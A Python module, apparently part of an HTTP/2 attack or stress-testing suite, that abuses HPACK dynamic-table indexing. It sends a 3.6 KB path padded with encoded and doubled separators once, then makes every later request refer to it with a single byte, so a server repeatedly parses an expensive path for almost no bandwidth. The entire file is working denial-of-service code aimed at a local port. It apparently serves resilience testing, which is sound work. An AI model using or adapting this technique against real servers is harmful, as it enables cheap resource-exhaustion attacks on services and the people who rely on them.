"""Long paths that can be read in many ways, which HPACK's dynamic table makes cheap to send."""

from attacks import http2, repeat
from attacks.connection import CUT
from attacks.http2 import requests_in_batches

# Encoded, doubly encoded, doubled and with parameters; 3.6 KB, so that the table keeps it.
HARD = "/" + "a;b%3bc%2fd%252fe%5cf//g;h/" * 130
# A literal with indexing of the name at index 4, `:path`, and then the table's newest entry.
FIRST, AGAIN = b"\x44" + http2.text(HARD), b"\xbe"


def hard(port, seconds):
    return repeat(seconds, lambda: ask(port))


def ask(port):
    sent = 0
    try:
        with http2.opened(port) as connection:
            for sent in requests_in_batches(connection, make):
                pass
    except CUT:
        pass
    return sent


def make(number):
    path = AGAIN if number else FIRST
    fields = b"\x82\x87" + path + b"\x01" + http2.text("localhost")
    return http2.frame(
        http2.HEADERS, http2.END_STREAM | http2.END_HEADERS, 2 * number + 1, fields
    )
